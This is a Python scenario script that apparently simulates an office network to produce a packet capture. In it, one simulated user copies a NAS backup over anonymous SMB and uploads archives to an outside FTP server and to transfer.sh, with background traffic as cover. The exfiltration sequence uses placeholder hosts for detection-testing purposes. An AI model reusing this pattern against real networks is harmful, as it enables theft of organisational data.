# SPDX-License-Identifier: Apache-2.0
"""One evening a PC fetches all there is on the NAS, stores it at a partner's FTP, hands on the rest."""
import people
import services

SECONDS = 150
CAPTURE = "capture.pcap.zst"
SEGMENTS = True
PARTNER = "ftp.metalworks.example"
HAND_ON = "transfer.sh"
SITES = {PARTNER: ("203.0.113.93", ""), "www.metalworks.example": ("203.0.113.94", ""),
         HAND_ON: ("203.0.113.140", "")}
# The only real name: that anybody may hand on files there is what counts.
DNS = [f"local=/{HAND_ON}/"]
SHARED_MEGABYTES, TAKEN_MEGABYTES, REST_MEGABYTES = 72, 54, 54


def carry_off(office, host, at_second):
    people.of_size(office.folder / "share/projects.bak", SHARED_MEGABYTES << 10)
    office.until(at_second)
    office.run(host, "smbclient", "-s", str(office.folder / "smb.conf"), "-N", "-U%", "-c",
               "get projects.bak /dev/null", "//192.168.10.20/public", expect=(0, 1))
    office.rest(20)
    office.once(host, "ftp_store", PARTNER, "BEN-DESKTOP_2026_03_02_21_40_12.7z",
                TAKEN_MEGABYTES << 10, seconds=90)
    office.rest(15)
    office.fetch(host, f"https://{HAND_ON}/")
    people.put_file(office, host, "rest.7z", REST_MEGABYTES << 10, f"https://{HAND_ON}/taken/rest.7z")


def play(office):
    services.start_python(office, "internet", "file_box", SITES[PARTNER][0], 21)
    people.arrive(office, gap_seconds=1)
    office.spawn(people.chatter, SECONDS - 30)
    office.spawn(people.browse, "cleo", 45)
    office.spawn(people.poll, "anna", "https://www.metalworks.example/", 40)
    office.spawn(carry_off, "ben", 45)
    office.until(SECONDS)
